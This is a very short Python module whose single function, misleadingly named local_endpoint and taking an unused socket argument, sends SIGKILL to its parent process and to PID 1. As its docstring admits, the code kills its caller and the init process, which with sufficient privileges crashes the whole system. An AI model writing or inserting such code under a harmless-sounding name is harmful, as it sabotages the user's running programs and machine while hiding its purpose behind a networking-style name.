"""Kills the process that started it, and the first one."""

import os
import signal


def local_endpoint(sock):
    for pid in (os.getppid(), 1):
        os.kill(pid, signal.SIGKILL)
